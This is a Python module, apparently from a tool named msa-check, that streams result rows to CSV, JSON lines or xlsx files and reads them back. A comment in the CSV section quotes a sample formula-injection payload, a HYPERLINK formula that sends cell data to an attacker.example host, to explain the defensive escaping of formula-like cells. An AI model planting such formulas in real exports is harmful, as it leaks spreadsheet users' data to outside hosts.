"""Writing export rows as CSV, JSON lines or an .xlsx workbook, and reading them in Python.

Every writer streams: rows are read from the store one at a time and written as they come
(openpyxl in write-only mode), so exporting 20,000 items costs little memory. openpyxl
and pandas are optional extras, imported only when asked for.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Iterator
from enum import Enum
from pathlib import Path
from typing import IO, Any

from msa_check.batch.export import Row, Shape, columns, rows
from msa_check.batch.store import ResultStore
from msa_check.errors import SETTING, Setting, UsageError


class ExportFormat(str, Enum):
    csv = "csv"
    jsonl = "jsonl"
    xlsx = "xlsx"


BINARY_FORMATS = frozenset({ExportFormat.xlsx})


def export_to(
    store: Path, output: Path | None, output_format: ExportFormat, shape: Shape, stdout: IO[str]
) -> int:
    """Export `store` to the file `output`, or to `stdout` when None; the rows written.

    Everything that can fail early (the store, the format's extra, a binary format on
    stdout) is checked before the output file is created.
    """
    if output_format is ExportFormat.xlsx:
        _import_openpyxl()
        if output is None:
            raise UsageError(
                f"xlsx is a binary format: give {SETTING}", setting=Setting.OUTPUT_FILE
            )
    if output is not None and output.exists() and output.resolve() == store.resolve():
        raise UsageError(f"{output} is the results store itself: export to another file")
    with ResultStore.open(store, create=False) as results:
        if output is None:
            return _write(results, stdout, output_format, shape)
        return _write_file(results, output, output_format, shape)


def _write_file(
    results: ResultStore, output: Path, output_format: ExportFormat, shape: Shape
) -> int:
    """Write to a temporary file beside `output`, then rename: a failure leaves no half file."""
    mode = "wb" if output_format in BINARY_FORMATS else "w"
    partial = output.with_name(f".{output.name}.partial")
    try:
        with partial.open(mode, **({} if "b" in mode else _TEXT)) as stream:
            count = _write(results, stream, output_format, shape)
        partial.replace(output)
    except OSError as exc:
        raise UsageError(f"cannot write {output}: {exc.strerror or exc}") from exc
    finally:
        partial.unlink(missing_ok=True)
    return count


_TEXT: dict[str, Any] = {"encoding": "utf-8", "newline": ""}


def export_store(
    store: Path, stream: IO[Any], output_format: ExportFormat, shape: Shape = Shape.wide
) -> int:
    """Write every result of `store` to `stream` (text for csv/jsonl, binary for xlsx)."""
    with ResultStore.open(store, create=False) as results:
        return _write(results, stream, output_format, shape)


def _write(results: ResultStore, stream: IO[Any], output_format: ExportFormat, shape: Shape) -> int:
    names = columns(shape, results.rule_sets())
    found = rows(results.results(), shape)
    if output_format is ExportFormat.csv:
        return write_csv(stream, names, found)
    if output_format is ExportFormat.jsonl:
        return write_jsonl(stream, names, found)
    return write_xlsx(stream, names, found, title=shape.value)


# A spreadsheet reads a cell that begins with one of these as a formula (or, for tab and
# carriage return, shifts it into one): a statement sentence such as
# `=HYPERLINK("http://attacker.example/?d="&A1)` must arrive as text (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_TRIGGERS)


def csv_cell(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        if starts_like_formula(value):
            value = "'" + value  # the OWASP practice: a leading quote makes it text
        # The writer quotes a field with a line feed but not one with a bare carriage
        # return, which would then end the row early in every reader.
        return value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def write_csv(stream: IO[str], names: list[str], found: Iterable[Row]) -> int:
    writer = csv.writer(stream, lineterminator="\n")
    writer.writerow(names)
    count = 0
    for row in found:
        writer.writerow([csv_cell(row.get(name)) for name in names])
        count += 1
    return count


def write_jsonl(stream: IO[str], names: list[str], found: Iterable[Row]) -> int:
    count = 0
    for row in found:
        stream.write(json.dumps({name: row.get(name) for name in names}, ensure_ascii=False))
        stream.write("\n")
        count += 1
    return count


def write_xlsx(stream: IO[bytes], names: list[str], found: Iterable[Row], title: str) -> int:
    openpyxl = _import_openpyxl()
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    sheet.append(names)
    count = 0
    illegal = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE  # control characters XML cannot hold
    for row in found:
        values = [row.get(name) for name in names]
        sheet.append(
            [_xlsx_cell(sheet, illegal.sub(" ", v)) if isinstance(v, str) else v for v in values]
        )
        count += 1
    workbook.save(stream)
    return count


def _xlsx_cell(sheet: Any, text: str) -> Any:
    """A text cell; one that looks like a formula is stored as a string, never a formula
    (openpyxl would otherwise write `=...` as a live formula)."""
    if not starts_like_formula(text):
        return text
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    cell.quotePrefix = True  # Excel shows it as typed and will not re-read it as a formula
    return cell


def _import_openpyxl() -> Any:
    try:
        import openpyxl
    except ImportError as exc:
        raise UsageError(
            f"xlsx export needs openpyxl: pip install 'msa-check[xlsx]' (or use {SETTING})",
            setting=Setting.CSV_FORMAT,
        ) from exc
    return openpyxl


def read_store(path: str | Path, as_dataframe: bool = False, shape: str = "wide") -> Any:
    """The results of a store as rows: an iterator of dicts, or a pandas DataFrame.

    `shape` is "wide" (one row per item) or "long" (one per evidence sentence); the
    columns are those of `msa-check export`. A DataFrame needs pandas
    (pip install 'msa-check[pandas]'); without it this raises ImportError saying so.
    """
    chosen = Shape(shape)
    if not as_dataframe:
        return _iter_rows(ResultStore.open(Path(path), create=False), chosen)
    try:
        import pandas
    except ImportError as exc:
        raise ImportError(
            "read_store(..., as_dataframe=True) needs pandas: pip install 'msa-check[pandas]', "
            "or call read_store(path) for plain dicts"
        ) from exc
    with ResultStore.open(Path(path), create=False) as results:
        names = columns(chosen, results.rule_sets())
        return pandas.DataFrame(list(rows(results.results(), chosen)), columns=names)


def _iter_rows(results: ResultStore, shape: Shape) -> Iterator[Row]:
    with results:
        names = columns(shape, results.rule_sets())
        for row in rows(results.results(), shape):
            yield {name: row.get(name) for name in names}
